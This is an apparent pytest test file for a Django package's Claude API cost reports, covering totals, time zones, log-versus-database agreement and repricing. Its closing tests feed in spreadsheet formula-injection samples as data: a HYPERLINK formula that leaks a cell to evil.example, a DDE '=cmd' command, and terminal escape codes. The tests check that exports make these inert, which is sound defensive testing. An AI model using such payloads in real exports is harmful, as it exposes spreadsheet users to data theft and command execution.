"""Daily cost: exact numbers, days in the site's time zone, logs agree with the DB."""

from __future__ import annotations

import csv
import datetime
import json
import zoneinfo
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection

import django_claude
from django_claude.costs import days, reports, rollups, totals
from django_claude.models import CallRecord, DailyCost
from django_claude.recording import logfiles
from django_claude.testing import Fault
from tests.prices import site_price

UTC = datetime.UTC
DAY = datetime.date(2026, 11, 20)


def record(when: datetime.datetime, feature: str = "support", **kwargs) -> CallRecord:
    values = {
        "model_requested": "claude-sonnet-4-6",
        "model": "claude-sonnet-4-6",
        "outcome": "ok",
        "attempts": 1,
        "latency_ms": 100,
        "input_tokens": 10,
        "output_tokens": 5,
        "cost_usd": Decimal("0.001"),
        **kwargs,
    }
    return CallRecord.objects.create(created_at=when, feature=feature, **values)


def at(hour: int, minute: int = 0, day: datetime.date = DAY, tz=UTC, **kw) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour, minute, **kw), tzinfo=tz)


def report_json(*args: str) -> dict:
    out = StringIO()
    call_command("claude_cost_report", *args, "--format", "json", stdout=out, stderr=StringIO())
    return json.loads(out.getvalue())


@pytest.fixture
def day_of_calls(db):
    record(
        at(9),
        cost_usd=Decimal("0.0128250000"),
        input_tokens=1000,
        output_tokens=500,
        cache_read_input_tokens=2000,
        cache_creation_input_tokens=400,
    )
    record(at(10), cost_usd=Decimal("0.0000180000"), input_tokens=1, output_tokens=1)
    record(at(11), model="claude-mystery-1", cost_usd=None, input_tokens=50)  # unpriced
    record(
        at(12), outcome="fallback", model="claude-haiku-4-5-20251001", cost_usd=Decimal("0.0002")
    )
    record(
        at(13), outcome="degraded", model="", cost_usd=Decimal(0), input_tokens=0, output_tokens=0
    )
    record(at(14), feature="search", cost_usd=Decimal("0.5"), user_ref="42")
    record(
        at(15),
        feature="search",
        outcome="error",
        model="claude-sonnet-4-6",
        cost_usd=Decimal(0),
        input_tokens=0,
        output_tokens=0,
        error_status=400,
    )
    record(at(9, day=DAY - datetime.timedelta(days=1)), cost_usd=Decimal("9"))  # other day


def test_report_numbers_by_feature(day_of_calls):
    data = report_json("--date", "2026-11-20")
    assert data["date"] == "2026-11-20" and data["timezone"] == "UTC" and data["by"] == "feature"
    rows = {row["feature"]: row for row in data["rows"]}
    support = rows["support"]
    assert support == {
        "feature": "support",
        "calls": 5,
        "input_tokens": 1000 + 1 + 50 + 10,
        "output_tokens": 500 + 1 + 5 + 5,
        "cache_read_input_tokens": 2000,
        "cache_creation_input_tokens": 400,
        "cost_usd": "0.0130430000",  # 0.012825 + 0.000018 + 0.0002; unpriced not counted
        "web_search_requests": 0,
        "tool_cost_usd": "0.0000000000",
        "unpriced_calls": 1,
        "fallback_calls": 1,
        "degraded_calls": 1,
        "error_calls": 0,
        "limited_calls": 0,
    }
    assert rows["search"]["cost_usd"] == "0.5000000000"
    assert rows["search"]["error_calls"] == 1
    assert data["total_cost_usd"] == "0.5130430000"
    assert [row["feature"] for row in data["rows"]] == ["search", "support"]  # by cost


def test_report_by_model_and_user(day_of_calls):
    by_model = {r["model"]: r for r in report_json("--date", "2026-11-20", "--by", "model")["rows"]}
    assert by_model["claude-mystery-1"]["unpriced_calls"] == 1
    assert by_model[""]["degraded_calls"] == 1
    by_user = {r["user"]: r for r in report_json("--date", "2026-11-20", "--by", "user")["rows"]}
    assert by_user["42"]["cost_usd"] == "0.5000000000"


def test_range(day_of_calls):
    data = report_json("--since", "2026-11-19", "--until", "2026-11-20")
    assert data["date"] == "2026-11-19" and data["until"] == "2026-11-20"
    assert data["total_cost_usd"] == "9.5130430000"


def test_yesterday_by_default(db, settings):
    settings.TIME_ZONE = "UTC"
    now = datetime.datetime.now(UTC)
    record(now - datetime.timedelta(days=1), cost_usd=Decimal("1.25"))
    record(now, cost_usd=Decimal("7"))
    data = report_json()
    assert data["date"] == (now.date() - datetime.timedelta(days=1)).isoformat()
    assert data["total_cost_usd"] == "1.2500000000"


def test_table_is_aligned_with_a_total_and_says_what_is_unpriced(day_of_calls):
    out, err = StringIO(), StringIO()
    call_command("claude_cost_report", "--date", "2026-11-20", stdout=out, stderr=err)
    lines = out.getvalue().splitlines()
    assert lines[0].startswith("Claude cost by feature, 2026-11-20 (UTC), from the database")
    header, rows, total = lines[1], lines[3:5], lines[-1]
    assert "cost USD" in header and "unpriced" in header
    assert total.startswith("TOTAL") and "0.513043" in total
    assert len({len(line) for line in [header, *rows]}) <= 2  # columns line up
    assert "1 calls have no price" in err.getvalue()


def test_csv_and_json_round_trip(day_of_calls):
    out = StringIO()
    call_command(
        "claude_cost_report",
        "--date",
        "2026-11-20",
        "--format",
        "csv",
        stdout=out,
        stderr=StringIO(),
    )
    from_csv = list(csv.DictReader(StringIO(out.getvalue())))
    from_json = report_json("--date", "2026-11-20")["rows"]
    assert [{k: str(v) for k, v in row.items()} for row in from_json] == from_csv
    assert sum(Decimal(r["cost_usd"]) for r in from_csv) == Decimal("0.513043")


def test_bad_arguments(db):
    for args, message in [
        (["--date", "2026-13-01"], "not a date"),
        (["--date", "2026-11-01", "--since", "2026-11-01"], "not both"),
        (["--until", "2026-11-01"], "needs --since"),
        (["--since", "2026-11-02", "--until", "2026-11-01"], "before"),
        (["--tz", "Mars/Olympus"], "unknown time zone"),
        (["--from-log", "/no/such/file.log"], "no such file"),
    ]:
        with pytest.raises(CommandError, match=message):
            call_command("claude_cost_report", *args, stdout=StringIO())


# -- days in the site's time zone -----------------------------------------------------------


def test_midnight_boundaries_in_the_site_time_zone(db, settings):
    settings.TIME_ZONE = "Europe/Paris"
    paris = zoneinfo.ZoneInfo("Europe/Paris")
    record(at(23, 59, tz=paris, second=59, microsecond=999000), cost_usd=Decimal("1"))
    record(at(0, 0, day=DAY + datetime.timedelta(days=1), tz=paris), cost_usd=Decimal("2"))
    assert report_json("--date", "2026-11-20")["total_cost_usd"] == "1.0000000000"
    assert report_json("--date", "2026-11-21")["total_cost_usd"] == "2.0000000000"
    # the same instants are other days in UTC
    assert report_json("--date", "2026-11-20", "--tz", "UTC")["total_cost_usd"] == "3.0000000000"


def test_dst_days_have_23_and_25_hours(db, settings):
    settings.TIME_ZONE = "America/New_York"
    ny = zoneinfo.ZoneInfo("America/New_York")
    spring, autumn = datetime.date(2026, 3, 8), datetime.date(2026, 11, 1)
    record(datetime.datetime(2026, 3, 8, 0, 30, tzinfo=ny), cost_usd=Decimal("1"))
    record(datetime.datetime(2026, 3, 8, 23, 30, tzinfo=ny), cost_usd=Decimal("1"))
    record(datetime.datetime(2026, 3, 9, 0, 10, tzinfo=ny), cost_usd=Decimal("100"))
    # 01:30 happens twice on the autumn day: both are Nov 1
    record(datetime.datetime(2026, 11, 1, 1, 30, fold=0, tzinfo=ny), cost_usd=Decimal("1"))
    record(datetime.datetime(2026, 11, 1, 1, 30, fold=1, tzinfo=ny), cost_usd=Decimal("1"))
    record(datetime.datetime(2026, 11, 1, 23, 59, tzinfo=ny), cost_usd=Decimal("1"))
    record(datetime.datetime(2026, 11, 2, 0, 0, tzinfo=ny), cost_usd=Decimal("100"))
    start, end = days.day_bounds(spring, spring, ny)
    assert end.astimezone(UTC) - start.astimezone(UTC) == datetime.timedelta(hours=23)
    start, end = days.day_bounds(autumn, autumn, ny)
    assert end.astimezone(UTC) - start.astimezone(UTC) == datetime.timedelta(hours=25)
    assert report_json("--date", "2026-03-08")["rows"][0]["calls"] == 2
    assert report_json("--date", "2026-11-01")["rows"][0]["calls"] == 3


# -- the log lines give the same numbers --------------------------------------------------


def test_database_and_log_agree(claude, call_lines, tmp_path, settings):
    settings.TIME_ZONE = "UTC"
    claude.usage = {
        "input_tokens": 120,
        "output_tokens": 40,
        "cache_read_input_tokens": 300,
        "ephemeral_5m_input_tokens": 30,
        "ephemeral_1h_input_tokens": 12,
    }
    django_claude.call("a", feature="support", user="7")
    django_claude.call("b", feature="support", user="8")
    claude.script("claude-sonnet-4-6", [529] * 4)
    django_claude.call("c", feature="search")
    claude.always("claude-sonnet-4-6", 500)
    claude.always("claude-haiku-4-5-20251001", 500)
    django_claude.call("d", feature="search")
    settings.DJANGO_CLAUDE_DEFAULT_MODEL = "claude-mystery-2"
    claude.always("claude-mystery-2", Fault())
    django_claude.call("e", feature="support")
    log = tmp_path / "calls.log"
    log.write_text(call_lines.raw + "\nnot json at all {\n")
    today = datetime.datetime.now(UTC).date().isoformat()
    for by in ("feature", "model", "user"):
        from_db = report_json("--date", today, "--by", by)
        from_log = report_json("--date", today, "--by", by, "--from-log", str(log))
        assert from_db == from_log, by
    assert Decimal(from_db["total_cost_usd"]) > 0


def test_save_is_an_upsert(day_of_calls):
    call_command(
        "claude_cost_report", "--date", "2026-11-20", "--save", stdout=StringIO(), stderr=StringIO()
    )
    first = sorted(DailyCost.objects.values_list("feature", "model", "calls", "cost_usd"))
    call_command(
        "claude_cost_report", "--date", "2026-11-20", "--save", stdout=StringIO(), stderr=StringIO()
    )
    assert sorted(DailyCost.objects.values_list("feature", "model", "calls", "cost_usd")) == first
    assert DailyCost.objects.count() == 5  # (feature, model) pairs of the day
    # a later run reflects what changed, and drops pairs that are gone
    CallRecord.objects.filter(feature="search").delete()
    rollups.rollup_day(DAY)
    assert not DailyCost.objects.filter(feature="search").exists()
    assert DailyCost.objects.count() == 4


def test_save_from_log_matches_save_from_database(claude, call_lines, tmp_path, settings):
    settings.TIME_ZONE = "UTC"
    django_claude.call("a", feature="support")
    claude.script("claude-sonnet-4-6", [529] * 4)
    django_claude.call("b", feature="support")
    today = datetime.datetime.now(UTC).date()
    rollups.rollup_day(today)
    from_db = sorted(DailyCost.objects.values_list("feature", "model", "calls", "cost_usd"))
    DailyCost.objects.all().delete()
    log = tmp_path / "calls.log"
    log.write_text(call_lines.raw)
    lines = list(logfiles.read_call_lines([str(log)]))
    rollups.rollup_from_lines(lines, since=today, until=today)
    assert sorted(DailyCost.objects.values_list("feature", "model", "calls", "cost_usd")) == from_db


def test_reprice(db, settings):
    settings.TIME_ZONE = "UTC"
    record(at(9), model="claude-new-1", cost_usd=None, input_tokens=1_000_000, output_tokens=0)
    record(at(10), model="claude-newer-2", cost_usd=None)
    rollups.rollup_day(DAY)
    assert DailyCost.objects.get(model="claude-new-1").unpriced_calls == 1
    site_price("claude-new-1", datetime.date(2026, 1, 1), "2", "8", "2.5", "4", "0.2")
    out = StringIO()
    call_command("claude_reprice", "--since", "2026-11-01", stdout=out)
    assert "1 calls priced, 1 still without a price" in out.getvalue()
    assert CallRecord.objects.get(model="claude-new-1").cost_usd == Decimal("2")
    daily = DailyCost.objects.get(model="claude-new-1")
    assert (daily.cost_usd, daily.unpriced_calls) == (Decimal("2"), 0)


@pytest.mark.postgres
def test_latency_percentiles_on_postgresql(db):
    for ms in (100, 200, 300, 400, 1000):
        record(at(9), latency_ms=ms)
    [row] = reports.cost_report(since=DAY).rows
    assert row.latency_p50_ms == 300
    assert row.latency_p95_ms == pytest.approx(
        totals.percentile_cont([100, 200, 300, 400, 1000], 0.95)
    )


def test_sqlite_shows_the_average_latency(db):
    if connection.vendor != "sqlite":
        pytest.skip("SQLite's fallback")
    for ms in (100, 200, 600):
        record(at(9), latency_ms=ms)
    report = reports.cost_report(since=DAY)
    assert report.latency == "average"
    assert report.rows[0].latency_avg_ms == 300
    assert report.rows[0].latency_p50_ms is None


# -- hostile logs and hostile names --------------------------------------------------------


def test_report_from_hostile_logs_skips_and_counts_bad_lines(db, tmp_path):
    from tests.test_ingest import build_corpus

    corpus, paths = build_corpus(tmp_path)
    out, err = StringIO(), StringIO()
    call_command(
        "claude_cost_report",
        "--date",
        "2026-11-20",
        "--format",
        "json",
        "--from-log",
        *paths,
        stdout=out,
        stderr=err,
    )
    data = json.loads(out.getvalue())
    summary = logfiles.ingest(paths)  # the same lines are good, the same ones bad
    assert sum(row["calls"] for row in data["rows"]) == summary.created
    assert summary.created >= len(corpus.good_ids)
    assert f"{summary.corrupt} corrupt log lines were skipped" in err.getvalue()
    assert f"{paths[0]}:6: not valid JSON" in err.getvalue()
    assert "--from-log: " + paths[3] + ": is a directory; skipped" in err.getvalue()
    assert "missing.log: no such file; skipped" in err.getvalue()
    # and --save from the same lines
    call_command(
        "claude_cost_report",
        "--date",
        "2026-11-20",
        "--save",
        "--from-log",
        *paths,
        stdout=StringIO(),
        stderr=StringIO(),
    )
    assert sum(DailyCost.objects.values_list("calls", flat=True)) == summary.created


def test_report_from_lines_counts_lines_it_cannot_add_up(db):
    good_line = {
        "created_at": "2026-11-20T09:00:00+00:00",
        "feature": "f",
        "model": "m",
        "input_tokens": 3,
        "cost_usd": "0.5",
        "latency_ms": 10,
    }
    lines = [
        good_line,
        {**good_line, "created_at": "garbled"},
        {**good_line, "created_at": None},
        {k: v for k, v in good_line.items() if k != "created_at"},
        {**good_line, "input_tokens": "lots"},
        {**good_line, "input_tokens": -4},
        {**good_line, "output_tokens": 1.5},
        {**good_line, "cost_usd": "NaN"},
        {**good_line, "cost_usd": "abc"},
        {**good_line, "latency_ms": float("inf")},
        {**good_line, "latency_ms": {"a": 1}},
        good_line,
    ]
    report = reports.cost_report_from_lines(lines, since=DAY)
    assert report.corrupt_lines == 10
    [row] = report.rows
    assert (row.calls, row.input_tokens, row.cost_usd) == (2, 6, Decimal("1"))
    assert rollups.rollup_from_lines(lines, since=DAY, until=DAY) == 1
    assert DailyCost.objects.get().calls == 2


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "\uff1d1+1",  # a full-width =
]


def test_csv_cells_are_inert(db):
    for i, name in enumerate([*FORMULAS, "plain", "a=b", "x-1"]):
        record(at(9), feature=name, cost_usd=Decimal(i + 1))
    record(at(9), feature="refund", cost_usd=Decimal("-1.5"))  # a negative cost stays a number
    out = StringIO()
    call_command(
        "claude_cost_report",
        "--date",
        "2026-11-20",
        "--format",
        "csv",
        stdout=out,
        stderr=StringIO(),
    )
    rows = {row["feature"]: row for row in csv.DictReader(StringIO(out.getvalue()))}
    for name in FORMULAS:
        assert "'" + name in rows, name
        assert name not in rows
    for name in ("plain", "a=b", "x-1"):
        assert name in rows
    refund = rows["refund"]
    assert refund["cost_usd"] == "-1.5000000000"
    assert Decimal(refund["cost_usd"]) == Decimal("-1.5")
    for row in rows.values():  # every count and cost is a plain number
        for column, value in row.items():
            if column != "feature":
                Decimal(value)


def test_inert_csv_text():
    assert reports.inert_csv_text("=1+1") == "'=1+1"
    assert reports.inert_csv_text("@x") == "'@x"
    assert reports.inert_csv_text("") == ""
    assert reports.inert_csv_text("chat") == "chat"
    assert reports.inert_csv_text(" =1") == " =1"


def test_csv_from_the_log_is_inert_too(db, tmp_path):
    from tests.test_ingest import dumps, good

    log = tmp_path / "calls.log"
    log.write_text(dumps(good(1, feature="=cmd|' /C calc'!A0")) + "\n")
    out = StringIO()
    call_command(
        "claude_cost_report",
        "--date",
        "2026-11-20",
        "--format",
        "csv",
        "--from-log",
        str(log),
        stdout=out,
        stderr=StringIO(),
    )
    [row] = list(csv.DictReader(StringIO(out.getvalue())))
    assert row["feature"] == "'=cmd|' /C calc'!A0"


def test_table_escapes_control_characters_in_names(db):
    record(at(9), feature="\x1b[2Jred\x07")
    out = StringIO()
    call_command("claude_cost_report", "--date", "2026-11-20", stdout=out, stderr=StringIO())
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    assert "red" in out.getvalue()


def test_the_ends_of_the_calendar(db):
    assert report_json("--date", "9999-12-30")["rows"] == []
    assert report_json("--date", "0001-01-02", "--tz", "Pacific/Kiritimati")["rows"] == []
    for date in ("9999-12-31", "0001-01-01"):
        with pytest.raises(CommandError, match="--date: .* is out of range"):
            report_json("--date", date)
